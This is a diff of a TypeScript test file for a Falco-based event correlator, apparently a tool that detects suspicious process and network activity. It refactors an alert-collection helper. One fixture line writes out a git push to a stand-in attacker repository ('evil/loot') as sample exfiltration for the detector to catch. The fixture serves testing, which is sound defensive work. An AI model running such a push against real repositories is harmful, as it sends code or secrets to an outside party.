@@ -11,7 +11,7 @@ import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index
 import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
 import { falcoArgCount, falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
 import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
-import { brief, makeCorrelator, testResolver } from '../correlate/builder.js';
+import { brief, runResolved } from '../correlate/builder.js';
 
 const norm = (text: string) => normalizeFalco(parseFalcoJson(text), { node: 'node-a' });
 const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;
@@ -126,11 +126,7 @@ function gitRun(
   return texts.map(norm).filter((e): e is NormalizedEvent => e !== null);
 }
 
-async function alertsOf(events: NormalizedEvent[]) {
-  const { correlator } = makeCorrelator({ resolveHost: testResolver });
-  await correlator.refreshDestinations();
-  return [...correlator.ingest(events), ...correlator.flush()];
-}
+const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;
 
 const git = (exepath: string, argv: readonly string[]): Proc => ({ pid: 4100, exepath, argv, parent: null });
 const push = ['git', '-c', PAD, 'push', 'https://github.com/evil/loot.git', 'main'];
